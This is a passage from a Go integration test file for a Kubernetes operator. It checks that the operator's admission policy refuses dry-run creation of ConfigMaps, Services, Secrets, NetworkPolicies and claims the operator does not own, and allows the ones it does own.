		Ingress:     []networkingv1.NetworkPolicyIngressRule{{}},
	}
	ownPods := metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/instance": "srv", "app.kubernetes.io/managed-by": "cantus-operator"}}
	port := []corev1.ServicePort{{Port: 8765}}

	refused := []struct {
		name string
		obj  client.Object
		want string
	}{
		{"a ConfigMap no SkillServer names", &corev1.ConfigMap{ObjectMeta: meta("kube-system", "coredns-custom", nil)}, "kube-system/coredns-custom is not one"},
		{"a ConfigMap named after no controller", &corev1.ConfigMap{ObjectMeta: meta("kube-system", "coredns-custom", controlledBy("SkillServer", "coredns"))}, "is not one"},
		{"a content ConfigMap of no number", &corev1.ConfigMap{ObjectMeta: meta("names", "srv-content-x", controlledBy("SkillServer", "srv"))}, "is not one"},
		{"a ConfigMap controlled by something else", &corev1.ConfigMap{ObjectMeta: meta("names", "srv-adapter",
			[]metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "Deployment", Name: "srv", UID: "u", Controller: ptr.To(true)}})}, "is not one"},
		{"an allow-all NetworkPolicy", &networkingv1.NetworkPolicy{ObjectMeta: meta("names", "srv", controlledBy("SkillServer", "srv")), Spec: allowAll}, "select only pods labelled"},
		{"a NetworkPolicy of another name", &networkingv1.NetworkPolicy{ObjectMeta: meta("names", "allow-all", controlledBy("SkillServer", "srv")),
			Spec: networkingv1.NetworkPolicySpec{PodSelector: ownPods}}, "names/allow-all is not one"},
		{"a Service of another name", &corev1.Service{ObjectMeta: meta("names", "billing", controlledBy("SkillServer", "srv")), Spec: corev1.ServiceSpec{Ports: port}}, "names/billing is not one"},
		{"a Service of no controller", &corev1.Service{ObjectMeta: meta("names", "srv", nil), Spec: corev1.ServiceSpec{Ports: port}}, "names/srv is not one"},
		{"a bridge Service of a SkillServer", &corev1.Service{ObjectMeta: meta("names", "srv-bridge", controlledBy("SkillServer", "srv")), Spec: corev1.ServiceSpec{Ports: port}}, "is not one"},
		{"a Secret no import names", &corev1.Secret{ObjectMeta: meta("kube-system", "bootstrap-token-abc", nil)}, "kube-system/bootstrap-token-abc is not one"},
		{"a Secret of a SkillServer", &corev1.Secret{ObjectMeta: meta("names", "srv-bridge", controlledBy("SkillServer", "srv"))}, "is not one"},
		{"an import's Secret of another name", &corev1.Secret{ObjectMeta: meta("names", "registry-creds", controlledBy("RemoteToolImport", "imp"))}, "names/registry-creds is not one"},
		{"another app's claim", &corev1.PersistentVolumeClaim{ObjectMeta: meta("names", "data-postgres-0", controlledBy("SkillServer", "data-postgres-0")),
			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
				Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}}}}, "names/data-postgres-0 is not one"},
	}
	for _, tc := range refused {
		// The policy may still be loading.
		var err error
		testkit.Eventually(t, 30*time.Second, tc.name+" to be refused by cantus-operator-own-objects", func() error {
			err = operator.Create(ctx, tc.obj, client.DryRunAll)
			if err != nil && strings.Contains(err.Error(), "cantus-operator-own-objects") {
				return nil
			}
			return fmt.Errorf("the operator created it: %w", err)
		})
		if !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: refused for another reason than %q: %v", tc.name, tc.want, err)
		}
	}

	allowed := []client.Object{
		&corev1.ConfigMap{ObjectMeta: meta("names", "srv-adapter", controlledBy("SkillServer", "srv"))},
		&corev1.ConfigMap{ObjectMeta: meta("names", "srv-content-12", controlledBy("SkillServer", "srv"))},
		&networkingv1.NetworkPolicy{ObjectMeta: meta("names", "srv", controlledBy("SkillServer", "srv")), Spec: networkingv1.NetworkPolicySpec{PodSelector: ownPods}},
		&corev1.Service{ObjectMeta: meta("names", "srv", controlledBy("SkillServer", "srv")), Spec: corev1.ServiceSpec{Ports: port}},
		&corev1.Service{ObjectMeta: meta("names", "imp-bridge", controlledBy("RemoteToolImport", "imp")), Spec: corev1.ServiceSpec{Ports: port}},
		&corev1.Secret{ObjectMeta: meta("names", "imp-bridge", controlledBy("RemoteToolImport", "imp"))},
		&corev1.PersistentVolumeClaim{ObjectMeta: meta("names", "srv-memory", controlledBy("SkillServer", "srv")),
			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
				Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}}}},
	}
	for _, obj := range allowed {
		if err := operator.Create(ctx, obj, client.DryRunAll); err != nil {
			t.Errorf("the operator's own %T %s is refused: %v", obj, obj.GetName(), err)
		}
	}
}

// Without its ClusterRole (--watch-namespaces), the operator still reads its admission
// policy's parameters and keeps its revocations in its own namespace, by its Role there
// (config/rbac/leader_election_role.yaml) and past its admission policy; it may not
// rewrite the parameters (issue 39, R11 and R12).
func TestOperatorReadsItsParametersAndKeepsItsStateOnItsNamespacesRole(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t) // config/rbac, the Role in the operator's namespace included
	waitForPolicy(t, operatorNamespace)
	dropClusterRole(t)
	waitUntilSecretsReadable(t, "default", false)

	params := &corev1.ConfigMap{}
	if err := operator.Get(ctx, client.ObjectKey{Namespace: operatorNamespace, Name: "cantus-operator-admission"}, params); err != nil {
		t.Fatalf("the operator cannot read its admission policy's parameters on its namespace's Role: %v", err)
	}
	store := &saissuer.ConfigMapStore{Reader: operator, Writer: operator, Namespace: operatorNamespace, FieldOwner: "cantus-operator",
		Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}}
	state := saissuer.State{Pods: []saissuer.Deletion{{UID: "p", Namespace: "team-a", At: time.Now().Unix()}}}
	for range 2 { // created, then updated
		if err := store.Save(ctx, state); err != nil {
			t.Fatalf("the operator cannot keep its revocations in its namespace: %v", err)
		}
	}
	if got, err := store.Recall(ctx); err != nil || len(got.Pods) != 1 || got.Pods[0].UID != "p" {
		t.Fatalf("recalled %+v, %v; want what was kept", got, err)
	}
	other := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "anything-else",
		Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}}}
	if err := operator.Create(ctx, other, client.DryRunAll); err == nil {
		t.Error("the operator created another ConfigMap in its namespace; only its state is its own there")
	}
}

// The operator writes a gateway's caller-keys Secret, <server>-caller-keys controlled
// by that SkillServer, and under that name no other Secret: RBAC lets it write
// Secrets, so the policy is what keeps per-caller credentials it gathers from landing
// in anyone else's.
func TestCallerCredentials_OperatorWritesOnlyCallerKeysSecretsOfItsServers(t *testing.T) {
	expectOnlyItsServersSecret(t, "tenant-keys", "caller-keys", "gw-tokens")
}

// expectOnlyItsServersSecret checks, in a new namespace ns, that the operator may create
// the Secret gw-<suffix> controlled by SkillServer gw, and that the policy refuses it
// other-<suffix> and the names in others under the same owner.
func expectOnlyItsServersSecret(t *testing.T, ns, suffix string, others ...string) {
	t.Helper()
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, ns)
	waitForPolicy(t, ns)
	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}
	secret := func(name string) *corev1.Secret {
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: own,
			OwnerReferences: controlledBy("SkillServer", "gw")}}
	}
	if err := operator.Create(ctx, secret("gw-"+suffix), client.DryRunAll); err != nil {
		t.Errorf("the %s Secret of SkillServer gw is refused: %v", suffix, err)
	}
	for _, name := range append([]string{"other-" + suffix}, others...) {
		err := operator.Create(ctx, secret(name), client.DryRunAll)
		if err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") {
			t.Errorf("Secret %s of SkillServer gw: %v, want refused by cantus-operator-own-objects", name, err)
		}
	}
}
